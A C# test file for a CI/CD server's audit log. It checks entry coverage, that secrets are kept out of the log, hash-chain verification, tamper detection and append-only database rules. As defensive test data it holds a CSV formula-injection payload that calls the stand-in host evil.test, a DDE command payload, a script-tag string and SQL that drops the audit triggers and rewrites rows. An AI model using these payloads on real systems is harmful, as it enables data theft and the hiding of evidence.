using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Microsoft.AspNetCore.Routing;
using Microsoft.Data.Sqlite;
using Slipway.Client;
using Slipway.Contracts.Api;
using Slipway.Core.Access;
using Slipway.Core.Audit;
using Slipway.Server.Tests.EndToEnd;
using Slipway.Testing;

namespace Slipway.Server.Tests.Audit;

/// <summary>The audit log as evidence: every action recorded with who, from where, on what, how it ended and which request; a chain that verifies, and tampering that is found.</summary>
public sealed class AuditLogTests
{
    [Fact]
    public async Task EveryCatalogueAction_WritesAnEntry_WithActorSourceTargetOutcomeAndTheResponsesRequestId()
    {
        await using var server = await SlipwayTestServer.StartAsync(o => o.EmbeddedAgent = false);
        using var repo = Pipelines.Repo(Pipelines.OneJob("echo hi"));
        await server.Client.CreateProjectAsync("shop", repo.Path, "main");
        var runId = (await server.Client.ListRunsAsync("shop")).Single().Id;
        var registration = await server.Client.CreateAgentTokenAsync("build", preApproved: true);
        using var admin = Http(server, SlipwayTestServer.AdminToken);
        using var anonymous = Http(server, null);

        // action -> (client, method, path, body); checked by the request id the response carries.
        var calls = new List<(string Action, HttpClient Client, HttpMethod Method, string Path, string? Body, string Outcome, string ActorKind)>
        {
            (Actions.ProjectCreate, admin, HttpMethod.Post, "/api/v1/projects", $$"""{"name":"two","repo":"{{repo.Path}}","branch":"main"}""", "allowed", "token"),
            (Actions.ProjectRead, admin, HttpMethod.Get, "/api/v1/projects/shop", null, "allowed", "token"),
            (Actions.RunStart, admin, HttpMethod.Post, "/api/v1/projects/shop/runs", "{}", "allowed", "token"),
            (Actions.RunRead, admin, HttpMethod.Get, $"/api/v1/runs/{runId}", null, "allowed", "token"),
            (Actions.RunCancel, admin, HttpMethod.Post, $"/api/v1/runs/{runId}/cancel", "{}", "allowed", "token"),
            (Actions.RunRetry, admin, HttpMethod.Post, $"/api/v1/runs/{runId}/retry", "{}", "allowed", "token"),
            (Actions.LogRead, admin, HttpMethod.Get, $"/api/v1/runs/{runId}/jobs/build/log", null, "allowed", "token"),
            (Actions.ArtifactRead, admin, HttpMethod.Get, $"/api/v1/runs/{runId}/artifacts/build/x.txt", null, "allowed", "token"),
            (Actions.VariableWrite, admin, HttpMethod.Put, "/api/v1/projects/shop/variables/API_KEY", """{"value":"s3cret-value","secret":true}""", "allowed", "token"),
            (Actions.VariableRead, admin, HttpMethod.Get, "/api/v1/projects/shop/variables", null, "allowed", "token"),
            (Actions.ItemWrite, admin, HttpMethod.Put, "/api/v1/projects/shop/item-key", """{"prefix":"SHOP"}""", "allowed", "token"),
            (Actions.ItemRead, admin, HttpMethod.Get, "/api/v1/projects/shop/items", null, "allowed", "token"),
            // shop is not hosted: allowed and audited, then 404.
            (Actions.RepoRead, admin, HttpMethod.Get, "/git/shop.git/info/refs", null, "allowed", "token"),
            (Actions.RepoPush, admin, HttpMethod.Post, "/git/shop.git/git-receive-pack", "{}", "allowed", "token"),
            (Actions.RepoProtect, admin, HttpMethod.Put, "/api/v1/projects/shop/protected-branches/release/1", "{}", "allowed", "token"),
            (Actions.ReleaseRead, admin, HttpMethod.Get, "/api/v1/projects/shop/releases", null, "allowed", "token"),
            (Actions.ChangeRequestRead, admin, HttpMethod.Get, "/api/v1/projects/shop/change-requests", null, "allowed", "token"),
            (Actions.ChangeRequestWrite, admin, HttpMethod.Post, "/api/v1/projects/shop/change-requests/1/close", "{}", "allowed", "token"),
            (Actions.ChangeRequestReview, admin, HttpMethod.Post, "/api/v1/projects/shop/change-requests/1/reviews", """{"verdict":"approve"}""", "allowed", "token"),
            (Actions.ChangeRequestMerge, admin, HttpMethod.Post, "/api/v1/projects/shop/change-requests/1/merge", "{}", "allowed", "token"),
            (Actions.MergeRulesManage, admin, HttpMethod.Put, "/api/v1/projects/shop/merge-rules/main", """{"requiredApprovals":2}""", "allowed", "token"),
            (Actions.RepoCredential, admin, HttpMethod.Delete, "/api/v1/projects/shop/git-credential", null, "allowed", "token"),
            (Actions.EnvironmentManage, admin, HttpMethod.Post, "/api/v1/projects/shop/environments", """{"name":"staging","pool":"build"}""", "allowed", "token"),
            (Actions.EnvironmentRead, admin, HttpMethod.Get, "/api/v1/projects/shop/environments", null, "allowed", "token"),
            (Actions.DeploymentRead, admin, HttpMethod.Get, "/api/v1/projects/shop/dashboard", null, "allowed", "token"),
            (Actions.DeploymentStart, admin, HttpMethod.Post, "/api/v1/projects/shop/promotions", """{"environment":"staging"}""", "allowed", "token"),
            (Actions.DeploymentApprove, admin, HttpMethod.Post, "/api/v1/projects/shop/deployments/1/approve", "{}", "allowed", "token"),
            (Actions.GateManage, admin, HttpMethod.Post, "/api/v1/projects/shop/environments/staging/gates", """{"kind":"signoff","signOffKind":"uat","role":"analyst"}""", "allowed", "token"),
            (Actions.ReleaseSignOff, admin, HttpMethod.Post, "/api/v1/projects/shop/releases/9.9.9/signoffs", """{"environment":"staging","kind":"uat","accept":true}""", "allowed", "token"),
            (Actions.CheckManage, admin, HttpMethod.Post, "/api/v1/projects/shop/environments/staging/checks", """{"url":"http://127.0.0.1:9/health"}""", "allowed", "token"),
            (Actions.ReleaseCreate, admin, HttpMethod.Post, "/api/v1/projects/shop/releases", $$"""{"runId":{{runId}}}""", "allowed", "token"),
            (Actions.AgentRead, admin, HttpMethod.Get, "/api/v1/agents", null, "allowed", "token"),
            (Actions.NodeRead, admin, HttpMethod.Get, "/api/v1/nodes", null, "allowed", "token"),
            (Actions.NodeDrain, admin, HttpMethod.Post, "/api/v1/nodes/nobody/drain", "{}", "allowed", "token"),
            (Actions.AgentApprove, admin, HttpMethod.Post, "/api/v1/agents/nobody/approve", "{}", "allowed", "token"),
            (Actions.AgentTokenCreate, admin, HttpMethod.Post, "/api/v1/agents/tokens", """{"pool":"build","preApproved":false}""", "allowed", "token"),
            (Actions.UserRead, admin, HttpMethod.Get, "/api/v1/users", null, "allowed", "token"),
            (Actions.UserManage, admin, HttpMethod.Post, "/api/v1/users", """{"username":"carol"}""", "allowed", "token"),
            (Actions.RoleManage, admin, HttpMethod.Post, "/api/v1/roles", """{"name":"readers","actions":["run.read"]}""", "allowed", "token"),
            (Actions.GrantManage, admin, HttpMethod.Post, "/api/v1/users/carol/grants", """{"role":"viewer"}""", "allowed", "token"),
            (Actions.AuditRead, admin, HttpMethod.Get, "/api/v1/audit/verify", null, "allowed", "token"),
            (Actions.MetricsRead, admin, HttpMethod.Get, "/metrics", null, "allowed", "token"),
            (Actions.PipelineLint, admin, HttpMethod.Post, "/api/v1/lint", "stages: []", "allowed", "token"),
            (Actions.UiView, admin, HttpMethod.Get, "/", null, "allowed", "token"),
            (Actions.AccountSelf, admin, HttpMethod.Get, "/api/v1/me", null, "allowed", "token"),
            // Only audited when denied: an agent's heartbeats.
            (Actions.AgentHeartbeat, anonymous, HttpMethod.Post, "/api/v1/agent/poll", """{"freeSlots":1,"waitSeconds":0}""", "denied", "anonymous"),
            // Audited by the endpoint with its outcome.
            (Actions.SessionCreate, anonymous, HttpMethod.Post, "/api/v1/auth/login", """{"username":"admin","password":"wrong-wrong-wrong"}""", "denied", "user"),
            // Audited after the endpoint checked the signature.
            (Actions.WebhookPush, anonymous, HttpMethod.Post, "/api/v1/projects/shop/hooks/git", "{}", "denied", "anonymous"),
        };
        using var registrar = Http(server, registration.Token);
        calls.Add((Actions.AgentRegister, registrar, HttpMethod.Post, "/api/v1/agent/register",
            $$"""{"protocolVersion":{{Slipway.Contracts.ProtocolVersion.Current}},"name":"a1","pool":"build","labels":[],"slots":1}""", "allowed", "agent"));

        var seen = new List<(string Action, string RequestId, string Method, string Path, string Outcome, string ActorKind)>();
        foreach (var call in calls)
            seen.Add((call.Action, await SendAsync(call.Client, call.Method, call.Path, call.Body), call.Method.Method, call.Path, call.Outcome, call.ActorKind));

        // The agent's own credential for agent.work.
        var agentCredential = await RegisterCredentialAsync(server);
        using var agent = Http(server, agentCredential);
        var artifact = "/api/v1/agent/jobs/1/artifacts/" + new string('0', 64); // 409 without the lease, but allowed and audited
        seen.Add((Actions.AgentWork, await SendAsync(agent, HttpMethod.Get, artifact, null), "GET", artifact, "allowed", "agent"));

        var log = await server.Client.ListAuditAsync(new AuditFilterOptions(Limit: 1000));
        foreach (var s in seen)
        {
            var entry = log.FirstOrDefault(e => e.RequestId == s.RequestId && e.Action == s.Action && e.Target == $"{s.Method} {s.Path}");
            Assert.True(entry is not null, $"no entry for {s.Action} with request id {s.RequestId}");
            Assert.Equal(s.Outcome, entry!.Outcome);
            Assert.Equal(s.ActorKind, entry.ActorKind);
            Assert.Equal("127.0.0.1", entry.Source);
            Assert.False(string.IsNullOrEmpty(entry.Actor));
            if (s.ActorKind == "token") Assert.Equal(("admin", "token #1 'initial-admin'"), (entry.Actor, entry.Detail));
        }

        // Setting a secret is evidence (who, which, when) but never carries its value.
        Assert.Contains(log, e => e.Action == Actions.VariableWrite && e.Outcome == "succeeded" && (e.Detail ?? "").StartsWith("secret set (value not recorded)"));
        Assert.DoesNotContain(log, e => (e.Detail ?? "").Contains("s3cret-value") || (e.Target ?? "").Contains("s3cret-value"));

        // Every action some endpoint performs is covered above, except "public", which is never audited when allowed.
        var mapped = server.Service<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
            .Select(e => e.Metadata.GetMetadata<ActionMetadata>()!.Action).ToHashSet();
        Assert.Empty(mapped.Except(seen.Select(s => s.Action)).Except([Actions.Public]));
        var before = (await server.Client.VerifyAuditAsync()).EntriesChecked;
        Assert.Equal(HttpStatusCode.OK, (await anonymous.GetAsync("/healthz")).StatusCode);
        Assert.Equal(before + 1, (await server.Client.VerifyAuditAsync()).EntriesChecked); // only the verify call itself
    }

    [Fact]
    public async Task DeniedRequests_NoTokenAndWrongRole_WriteDeniedEntries()
    {
        await using var server = await SlipwayTestServer.StartAsync(o => o.EmbeddedAgent = false);
        await server.Client.CreateUserAsync("vera", null, null, null);
        await server.Client.GrantAsync("vera", "viewer");
        var veraToken = await TokenOfAsync(server, "vera");
        using var anonymous = Http(server, null);
        using var vera = Http(server, veraToken);

        var noToken = await SendAsync(anonymous, HttpMethod.Get, "/api/v1/users", null, HttpStatusCode.Unauthorized);
        var wrongRole = await SendAsync(vera, HttpMethod.Post, "/api/v1/projects", """{"name":"x","repo":"/nowhere"}""", HttpStatusCode.Forbidden);
        var badToken = await SendAsync(Http(server, "slp_not-a-real-token"), HttpMethod.Get, "/api/v1/projects", null, HttpStatusCode.Unauthorized);

        var log = await server.Client.ListAuditAsync(new AuditFilterOptions(Outcome: "denied"));
        var a = Assert.Single(log, e => e.RequestId == noToken);
        Assert.Equal(("anonymous", "-", "user.read", "GET /api/v1/users"), (a.ActorKind, a.Actor, a.Action, a.Target));
        Assert.Equal("no valid credential: a valid bearer token or session is required, and none was sent; sign in first (slipway login)", a.Detail);
        var b = Assert.Single(log, e => e.RequestId == wrongRole);
        Assert.Equal(("token", "vera", "project.create", "POST /api/v1/projects"), (b.ActorKind, b.Actor, b.Action, b.Target));
        Assert.StartsWith("user:vera may not project.create", b.Detail);
        Assert.Contains(log, e => e.RequestId == badToken && e.Actor == "-");
        Assert.DoesNotContain(log, e => (e.Detail ?? "").Contains("slp_not-a-real-token") || (e.Detail ?? "").Contains(veraToken));
    }

    [Fact]
    public async Task SignIn_SuccessAndFailure_AreAuditedWithTheReason_NeverThePassword()
    {
        await using var server = await SlipwayTestServer.StartAsync(o => o.EmbeddedAgent = false);
        const string password = "Quay-Lantern-5150";
        await server.Client.CreateUserAsync("sam", null, null, password);
        using var anonymous = new SlipwayClient(server.Url, null);

        var wrong = await Assert.ThrowsAsync<SlipwayApiException>(() => anonymous.LoginAsync("sam", "Quay-Lantern-WRONG"));
        var unknown = await Assert.ThrowsAsync<SlipwayApiException>(() => anonymous.LoginAsync("nobody", password));
        var ok = await anonymous.LoginAsync("sam", password, "laptop");

        Assert.Equal((HttpStatusCode.Unauthorized, "wrong username or password"), (wrong.Status, wrong.Message));
        Assert.Equal(wrong.Message, unknown.Message); // the answer does not tell whether the user exists; the log does
        var log = await server.Client.ListAuditAsync(new AuditFilterOptions(Action: Actions.SessionCreate));
        Assert.Contains(log, e => e.Actor == "sam" && e.Outcome == "denied" && e.Detail == "wrong password" && e.Source == "127.0.0.1");
        Assert.Contains(log, e => e.Actor == "nobody" && e.Outcome == "denied" && e.Detail == "unknown user");
        Assert.Contains(log, e => e.Actor == "sam" && e.Outcome == "succeeded" && e.Detail!.StartsWith($"signed in with a password; API token #{ok.Id} 'laptop' issued"));
        var export = await ExportAsync(server, "csv");
        Assert.DoesNotContain("Quay-Lantern", export);
        Assert.DoesNotContain(ok.Token, export);
    }

    [Fact]
    public async Task Grants_Tokens_AndAgentApproval_AreAuditedWithDetails()
    {
        await using var server = await SlipwayTestServer.StartAsync(o => o.EmbeddedAgent = false);
        using var repo = Pipelines.Repo(Pipelines.OneJob("echo hi"));
        await server.Client.CreateProjectAsync("shop", repo.Path, "main");
        await server.Client.CreateUserAsync("dana", "Dana", null, null);
        await server.Client.GrantAsync("dana", "developer", "shop");
        await server.Client.RevokeGrantAsync("dana", "developer", "shop");
        var token = await server.Client.CreateTokenAsync("deploy-bot", 3, ["run.read"]);
        await server.Client.RevokeTokenAsync(token.Id);
        var registration = await server.Client.CreateAgentTokenAsync("build", preApproved: false);
        using (var http = Http(server, registration.Token))
            await SendAsync(http, HttpMethod.Post, "/api/v1/agent/register", $$"""{"protocolVersion":{{Slipway.Contracts.ProtocolVersion.Current}},"name":"new-agent","pool":"build","labels":[],"slots":1}""");
        await server.Client.ApproveAgentAsync("new-agent");

        var log = await server.Client.ListAuditAsync(new AuditFilterOptions(Outcome: "succeeded"));
        Assert.Contains(log, e => e.Action == "grant.manage" && e.Target == "user:dana" && e.Detail!.StartsWith("granted developer on shop") && e.Actor == "admin");
        Assert.Contains(log, e => e.Action == "grant.manage" && e.Target == "user:dana" && e.Detail!.StartsWith("revoked developer on shop"));
        Assert.Contains(log, e => e.Action == "account.self" && e.Target == $"token:{token.Id}" && e.Detail!.StartsWith("API token 'deploy-bot' created, expires in 3 days, scope run.read"));
        Assert.Contains(log, e => e.Action == "account.self" && e.Target == $"token:{token.Id}" && e.Detail!.StartsWith("API token revoked"));
        Assert.Contains(log, e => e.Action == "agent.approve" && e.Target == "agent:new-agent" && e.Detail!.StartsWith("agent approved"));
        Assert.Contains(log, e => e.Action == "agent.token.create" && e.Target == $"registration-token:{registration.Id}");
        Assert.DoesNotContain(log, e => (e.Detail ?? "").Contains(token.Token) || (e.Detail ?? "").Contains(registration.Token));
    }

    [Fact]
    public async Task TwoHundredParallelRequests_LeaveAChainThatVerifies()
    {
        await using var server = await SlipwayTestServer.StartAsync(o => o.EmbeddedAgent = false);
        using var http = Http(server, SlipwayTestServer.AdminToken);
        var before = await server.Client.VerifyAuditAsync();

        var answers = await Task.WhenAll(Enumerable.Range(0, 200).Select(i =>
            http.GetAsync(i % 2 == 0 ? "/api/v1/projects" : "/api/v1/me")));

        Assert.All(answers, a => Assert.Equal(HttpStatusCode.OK, a.StatusCode));
        var after = await server.Client.VerifyAuditAsync();
        Assert.True(after.Ok, after.Problem);
        Assert.Equal(before.EntriesChecked + 201, after.EntriesChecked); // 200 requests and the first verify call
        var ids = answers.Select(a => a.Headers.GetValues("X-Request-Id").Single()).ToHashSet();
        var entries = await server.Client.ListAuditAsync(new AuditFilterOptions(Limit: 1000));
        Assert.Equal(200, entries.Count(e => ids.Contains(e.RequestId!)));
        var seqs = entries.Select(e => e.Seq).Order().ToList();
        Assert.Equal(Enumerable.Range(1, seqs.Count).Select(i => (long)i), seqs);
    }

    public enum Tamper { ChangeTarget, DeleteMiddleRow, SwapTwoRows }

    [Theory]
    [InlineData(Tamper.ChangeTarget, 5, "entry 5 was changed")]
    [InlineData(Tamper.DeleteMiddleRow, 5, "entry 5 does not follow entry 3: entry 4 was removed")]
    [InlineData(Tamper.SwapTwoRows, 3, "entry 3 was changed")]
    public async Task TamperingWithTheSqliteFile_IsFoundByVerify_ThroughTheApiAndTheCli(Tamper tamper, long firstBad, string problem)
    {
        using var data = new TempDirectory();
        await using (var server = await SlipwayTestServer.StartAsync(o => o.EmbeddedAgent = false, data.Path))
        {
            for (var i = 0; i < 4; i++) await server.Client.ListProjectsAsync();
            await server.Client.CreateUserAsync("eve", null, null, null);
            Assert.True((await server.Client.VerifyAuditAsync()).Ok);
        }

        await using (var db = OpenSqlite(data.Path))
        {
            Execute(db, "DROP TRIGGER audit_log_no_update");
            Execute(db, "DROP TRIGGER audit_log_no_delete");
            switch (tamper)
            {
                case Tamper.ChangeTarget:
                    Execute(db, "UPDATE audit_log SET target = 'GET /api/v1/nothing-to-see' WHERE seq = 5");
                    break;
                case Tamper.DeleteMiddleRow:
                    Execute(db, "DELETE FROM audit_log WHERE seq = 4");
                    break;
                case Tamper.SwapTwoRows:
                    const string cols = "at, actor_kind, actor, source, action, target, outcome, detail, request_id, prev_hash, hash";
                    Execute(db, $"CREATE TEMP TABLE a3 AS SELECT {cols} FROM audit_log WHERE seq = 3");
                    Execute(db, $"CREATE TEMP TABLE a4 AS SELECT {cols} FROM audit_log WHERE seq = 4");
                    foreach (var (seq, from) in new[] { (3, "a4"), (4, "a3") })
                        Execute(db, $"UPDATE audit_log SET ({cols}) = (SELECT {cols} FROM {from}) WHERE seq = {seq}");
                    break;
            }
        }

        await using var again = await SlipwayTestServer.StartAsync(o => o.EmbeddedAgent = false, data.Path);
        var result = await again.Client.VerifyAuditAsync();
        Assert.False(result.Ok);
        Assert.Equal(firstBad, result.FirstBadSequence);
        Assert.StartsWith(problem, result.Problem);

        var cli = await CliRunner.AdminAsync(again, null, "audit", "verify");
        Assert.Equal(2, cli.Exit);
        Assert.Contains($"audit chain BROKEN at entry {firstBad}: {problem}", cli.Out);
    }

    [Fact]
    public async Task SqliteTriggers_RefuseUpdateAndDelete_ThroughANormalConnection()
    {
        using var data = new TempDirectory();
        await using (var server = await SlipwayTestServer.StartAsync(o => o.EmbeddedAgent = false, data.Path))
            await server.Client.ListProjectsAsync();

        await using var db = OpenSqlite(data.Path);
        var update = Assert.Throws<SqliteException>(() => Execute(db, "UPDATE audit_log SET actor = 'someone-else' WHERE seq = 1"));
        var delete = Assert.Throws<SqliteException>(() => Execute(db, "DELETE FROM audit_log"));
        Assert.Contains("audit_log is append-only", update.Message);
        Assert.Contains("audit_log is append-only", delete.Message);
        await using var count = db.CreateCommand();
        count.CommandText = "SELECT COUNT(*) FROM audit_log WHERE actor = 'someone-else'";
        Assert.Equal(0L, (long)(await count.ExecuteScalarAsync())!);
    }

    [Fact]
    public async Task CsvExport_QuotesAndNeutralisesHostileText_JsonEscapesScript()
    {
        await using var server = await SlipwayTestServer.StartAsync(o => o.EmbeddedAgent = false);
        const string hostile = "=HYPERLINK(\"http://evil.test/?q=\"&A1,\"<script>alert('x')</script>, click\")";
        await server.Service<AuditLog>().RecordAsync(new AuditRecord(AuditActorKinds.System, "test", null, Actions.UserManage, hostile, AuditOutcomes.Succeeded, "a, \"b\"\nc"));
        using var anonymous = new SlipwayClient(server.Url, null);
        await Assert.ThrowsAsync<SlipwayApiException>(() => anonymous.LoginAsync("=cmd|' /C calc'!A0", "whatever-whatever"));

        var csv = await CliRunner.AdminAsync(server, null, "audit", "export", "--format", "csv");
        Assert.True(csv.Exit == 0, csv.Err);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.test/?q=\"\"&A1,\"\"<script>alert('x')</script>, click\"\")\",succeeded,\"a, \"\"b\"\"\nc\",", csv.Out);
        Assert.Contains(",user,'=cmd|' /C calc'!A0,127.0.0.1,session.create,", csv.Out);
        var rows = ParseCsv(csv.Out);
        Assert.All(rows, r => Assert.Equal(AuditExport.CsvColumns.Count, r.Count));
        Assert.All(rows.Skip(1), r => Assert.All(r, cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@', $"cell starts with a formula: {cell}")));

        var json = await ExportAsync(server, "json");
        Assert.DoesNotContain("<script>", json);
        Assert.Contains("\\u003Cscript\\u003E", json);
        var entries = JsonSerializer.Deserialize<List<AuditEntry>>(json, AuditExport.JsonOptions)!;
        Assert.Contains(entries, e => e.Target == hostile);
        Assert.True((await server.Client.VerifyAuditAsync()).Ok);
    }


    private static HttpClient Http(SlipwayTestServer server, string? token)
    {
        var http = new HttpClient { BaseAddress = new Uri(server.Url) };
        if (token is not null) http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", token);
        return http;
    }

    /// <summary>Sends a request and returns the X-Request-Id of the answer.</summary>
    private static async Task<string> SendAsync(HttpClient http, HttpMethod method, string path, string? body, HttpStatusCode? expected = null)
    {
        using var request = new HttpRequestMessage(method, path);
        if (body is not null) request.Content = new StringContent(body, Encoding.UTF8, "application/json");
        using var response = await http.SendAsync(request);
        if (expected is not null) Assert.Equal(expected, response.StatusCode);
        Assert.True(response.Headers.TryGetValues("X-Request-Id", out var ids), $"{method} {path}: no X-Request-Id");
        return ids!.Single();
    }

    private static async Task<string> RegisterCredentialAsync(SlipwayTestServer server)
    {
        var registration = await server.Client.CreateAgentTokenAsync("build", preApproved: true);
        using var http = Http(server, registration.Token);
        var answer = await http.PostAsync("/api/v1/agent/register",
            new StringContent($$"""{"protocolVersion":{{Slipway.Contracts.ProtocolVersion.Current}},"name":"worker","pool":"build","labels":[],"slots":1}""", Encoding.UTF8, "application/json"));
        return JsonDocument.Parse(await answer.Content.ReadAsStringAsync()).RootElement.GetProperty("credential").GetString()!;
    }

    /// <summary>A token of a user made the way an admin would: set a password, sign in.</summary>
    private static async Task<string> TokenOfAsync(SlipwayTestServer server, string username)
    {
        await server.Client.SetUserPasswordAsync(username, "Lighthouse-Keeper-42");
        using var anonymous = new SlipwayClient(server.Url, null);
        return (await anonymous.LoginAsync(username, "Lighthouse-Keeper-42", "tests")).Token;
    }

    private static async Task<string> ExportAsync(SlipwayTestServer server, string format)
    {
        using var buffer = new MemoryStream();
        await server.Client.ExportAuditAsync(format, buffer);
        return Encoding.UTF8.GetString(buffer.ToArray());
    }

    private static SqliteConnection OpenSqlite(string dataDirectory)
    {
        var connection = new SqliteConnection(new SqliteConnectionStringBuilder
        {
            DataSource = Path.Combine(dataDirectory, "slipway.db"), Pooling = false,
        }.ConnectionString);
        connection.Open();
        return connection;
    }

    private static void Execute(SqliteConnection db, string sql)
    {
        using var command = db.CreateCommand();
        command.CommandText = sql;
        command.ExecuteNonQuery();
    }

    /// <summary>A strict RFC 4180 reader (quoted cells may hold commas, quotes and line breaks).</summary>
    private static List<List<string>> ParseCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { cell.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else cell.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { row.Add(cell.ToString()); cell.Clear(); }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n') { row.Add(cell.ToString()); cell.Clear(); rows.Add(row); row = []; i++; }
            else cell.Append(c);
        }
        Assert.False(quoted, "unterminated quoted cell");
        if (row.Count > 0 || cell.Length > 0) { row.Add(cell.ToString()); rows.Add(row); }
        return rows;
    }
}

/// <summary>PostgreSQL: the append-only triggers, and the stronger setup of docs/operations.md ("Audit log on PostgreSQL").</summary>
[Collection("postgres")]
public sealed class PostgresAuditLogTests(PostgresFixture postgres)
{
    /// <summary>The statements of docs/operations.md, run by the owner (the role that ran the migrations).</summary>
    public static readonly string[] AppRoleSetup =
    [
        "GRANT USAGE ON SCHEMA public TO slipway_app",
        "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO slipway_app",
        "GRANT ALL PRIVILEGES ON ALL SEQUENCES IN SCHEMA public TO slipway_app",
        "REVOKE ALL PRIVILEGES ON audit_log FROM slipway_app",
        "GRANT SELECT, INSERT ON audit_log TO slipway_app",
    ];

    [Fact]
    public async Task AfterMigration_UpdateDeleteAndTruncate_FailWithTheAppendOnlyError_AndAnAppRoleCannotEvenDropTheTrigger()
    {
        var connection = await postgres.CreateDatabaseAsync();
        await using (var server = await SlipwayTestServer.StartAsync(o => { o.Database = connection; o.EmbeddedAgent = false; Nodes.NodeKit.ShareStorage(o, connection); }))
        {
            await server.Client.ListProjectsAsync();
            await server.Client.CreateUserAsync("pat", null, null, null);
        }

        // Even the owner (here a superuser) is refused by the triggers.
        await using (var owner = new Npgsql.NpgsqlConnection(connection))
        {
            await owner.OpenAsync();
            foreach (var sql in new[] { "UPDATE audit_log SET actor = 'x' WHERE seq = 2", "DELETE FROM audit_log WHERE seq = 2", "TRUNCATE audit_log" })
            {
                var e = await Assert.ThrowsAsync<Npgsql.PostgresException>(() => ExecuteAsync(owner, sql));
                Assert.StartsWith("audit_log is append-only", e.MessageText);
            }

            // The stronger setup: the server runs as a role that owns nothing and may only read and append the log.
            if (await ScalarAsync(owner, "SELECT COUNT(*) FROM pg_roles WHERE rolname = 'slipway_app'") == 0)
                await ExecuteAsync(owner, "CREATE ROLE slipway_app LOGIN PASSWORD 'app-password-change-me'");
            var database = new Npgsql.NpgsqlConnectionStringBuilder(connection).Database!;
            await ExecuteAsync(owner, $"GRANT CONNECT ON DATABASE \"{database}\" TO slipway_app");
            foreach (var sql in AppRoleSetup) await ExecuteAsync(owner, sql);
        }

        var appConnection = new Npgsql.NpgsqlConnectionStringBuilder(connection) { Username = "slipway_app", Password = "app-password-change-me" }.ConnectionString;
        await using (var app = new Npgsql.NpgsqlConnection(appConnection))
        {
            await app.OpenAsync();
            foreach (var sql in new[] { "UPDATE audit_log SET actor = 'x' WHERE seq = 2", "DELETE FROM audit_log WHERE seq = 2", "TRUNCATE audit_log" })
            {
                var e = await Assert.ThrowsAsync<Npgsql.PostgresException>(() => ExecuteAsync(app, sql));
                Assert.Equal("42501", e.SqlState); // insufficient_privilege
                Assert.Contains("permission denied for table audit_log", e.MessageText);
            }
            foreach (var trigger in new[] { "audit_log_no_update_delete", "audit_log_no_truncate" })
            {
                var drop = await Assert.ThrowsAsync<Npgsql.PostgresException>(() => ExecuteAsync(app, $"DROP TRIGGER {trigger} ON audit_log"));
                Assert.Equal("42501", drop.SqlState);
                Assert.Matches("must be owner of (relation|table) audit_log", drop.MessageText);
            }
            var disable = await Assert.ThrowsAsync<Npgsql.PostgresException>(() => ExecuteAsync(app, "ALTER TABLE audit_log DISABLE TRIGGER ALL"));
            Assert.Matches("must be owner of (relation|table) audit_log", disable.MessageText);
        }

        // ... and the server works as that role: it reads, appends and verifies.
        await using var asApp = await SlipwayTestServer.StartAsync(o => { o.Database = appConnection; o.EmbeddedAgent = false; Nodes.NodeKit.ShareStorage(o, connection); });
        await asApp.Client.CreateUserAsync("quinn", null, null, null);
        await asApp.Client.GrantAsync("quinn", "viewer");
        var verification = await asApp.Client.VerifyAuditAsync();
        Assert.True(verification.Ok, verification.Problem);
        Assert.Contains(await asApp.Client.ListAuditAsync(new AuditFilterOptions(Action: "grant.manage")), e => e.Target == "user:quinn");
    }

    private static async Task ExecuteAsync(Npgsql.NpgsqlConnection connection, string sql)
    {
        await using var command = new Npgsql.NpgsqlCommand(sql, connection);
        await command.ExecuteNonQueryAsync();
    }

    private static async Task<long> ScalarAsync(Npgsql.NpgsqlConnection connection, string sql)
    {
        await using var command = new Npgsql.NpgsqlCommand(sql, connection);
        return Convert.ToInt64(await command.ExecuteScalarAsync());
    }
}
